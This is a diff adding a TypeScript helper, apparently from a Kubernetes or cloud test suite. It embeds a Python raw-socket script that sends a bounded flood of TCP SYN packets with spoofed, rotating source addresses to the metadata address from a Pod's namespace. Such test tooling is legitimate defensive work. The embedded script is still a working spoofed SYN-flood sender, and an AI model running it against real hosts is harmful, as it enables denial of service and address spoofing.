@@ -1,0 +1,47 @@
+import { METADATA } from './addresses.ts';
+import { outputOf } from './commands.ts';
+
+/** Node.js opens no raw sockets. Ends by itself, after the packets or the time. */
+const SENDER = `
+import json, socket, struct, sys, time
+order = json.load(sys.stdin)
+sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+to = socket.inet_aton(order['to'])
+first = int.from_bytes(socket.inet_aton(order['from']), 'big')
+words = lambda data: sum(struct.unpack('!%dH' % (len(data) // 2), data))
+def checksum(total):
+    while total >> 16: total = (total & 0xffff) + (total >> 16)
+    return ~total & 0xffff
+sent, most, until = 0, order['packets'], time.monotonic() + order['forMs'] / 1000
+while sent < most and time.monotonic() < until:
+    source = struct.pack('!I', first + sent % order['addresses'])
+    ports, rest = struct.pack('!HH', 1024 + sent % 60000, 80), struct.pack('!IIBBH', sent, 0, 0x50, 2, 1024)
+    check = checksum(words(source) + words(to) + 6 + 20 + words(ports) + words(rest))
+    header = struct.pack('!BBHHHBBH', 0x45, 0, 40, 0, 0, 64, 6, 0)
+    try: sender.sendto(header + source + to + ports + rest + struct.pack('!HH', check, 0), (order['to'], 0))
+    except OSError: pass
+    sent += 1
+print(sent)
+`;
+
+export interface FloodOrder {
+  readonly from: string;
+  readonly addresses: number;
+  /** At most. */
+  readonly packets: number;
+  /** At most. Milliseconds. */
+  readonly forMs: number;
+}
+
+/**
+ * Begins connections to the metadata address from a Pod's namespace and never goes on with them, from so many addresses in turn,
+ * whether or not they are the Pod's. Gives how many it began.
+ */
+export async function floodFrom(
+  through: readonly string[],
+  python: string,
+  order: FloodOrder,
+): Promise<number> {
+  const input = JSON.stringify({ to: METADATA.ipv4, ...order });
+  return Number(await outputOf([...through, python, '-c', SENDER], { input }));
+}
